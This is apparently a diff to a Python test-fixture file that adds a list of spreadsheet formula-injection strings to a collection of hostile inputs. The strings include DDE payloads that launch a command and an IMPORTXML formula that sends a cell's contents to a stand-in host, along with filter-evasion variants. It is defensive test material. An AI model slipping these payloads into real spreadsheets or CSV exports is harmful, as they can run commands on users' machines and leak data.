@@ -192,6 +192,26 @@ SLOTS = [
     "{9^9^9}",
 ]
 
+# what a spreadsheet would run if it stood in a cell
+CELLS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org","x")',
+    '=IMPORTXML(CONCAT("http://example.org?",A1),"//a")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    '"=1+1"',
+    ";=1+1",
+    "x,=1+1",
+    "x\n=1+1,7",
+    '=DDE("cmd";"/C calc";"a")',
+]
+
 # What a well-meant family looks like; the hostile ones differ in one place.
 FAMILY = """\
 id: calculus/good
@@ -315,5 +335,6 @@ TEXTS = {
     "strange characters": STRANGE_CHARACTERS,
     "TeX": TEX,
     "slots": SLOTS,
+    "cells": CELLS,
 }
 CLASSES: dict[str, list[Any]] = {**TEXTS, "YAML": YAML, "absurd requests": ABSURD}
